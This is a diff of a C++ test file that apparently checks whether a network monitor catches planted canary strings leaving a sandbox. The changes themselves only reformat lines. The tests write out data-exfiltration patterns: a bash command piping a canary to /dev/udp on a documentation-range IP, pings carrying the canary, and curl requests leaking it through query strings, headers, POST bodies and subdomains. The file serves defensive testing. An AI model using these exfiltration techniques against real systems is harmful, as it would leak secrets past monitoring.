@@ -99,9 +99,9 @@ TEST_F(CanaryTest, AreFoundInWhatIsRefusedAndInPings) {
   start_world({{{"name", "no"}, {"to", {"203.0.113.80"}}, {"action", "refuse"}}}, canaries);
   for (const char* one : {planted, other}) {
     int port = one == planted ? 1000 : 2000;
-    (void)run_argv({"/bin/bash", "-c",
-                    "printf %s " + std::string(one) + " > /dev/udp/203.0.113.80/" +
-                        std::to_string(port)});
+    (void)run_argv(
+        {"/bin/bash", "-c",
+         "printf %s " + std::string(one) + " > /dev/udp/203.0.113.80/" + std::to_string(port)});
     (void)run_argv({"/tmp/attempts", "ping", one == planted ? "192.0.2.1" : "192.0.2.2", one});
   }
   EXPECT_EQ(stop().network_failure, "");
@@ -166,8 +166,8 @@ TEST_F(CanaryTest, AreFoundInNamesAndRequests) {
     curl({"http://web.example/hello?key=" + one});
     curl({"-H", "X-Key: " + one, "http://web.example/hello"});
     curl({"-d", "key=" + one, "http://web.example/hello"});
-    curl({"-k", "--resolve", one + ".web.example:443:192.0.2.80", "https://" + one +
-          ".web.example/hello"});
+    curl({"-k", "--resolve", one + ".web.example:443:192.0.2.80",
+          "https://" + one + ".web.example/hello"});
     curl({"--cacert", "/tmp/authority.pem", "-d", "key=" + one, "https://web.example/hello"});
   }
   EXPECT_EQ(stop().network_failure, "");
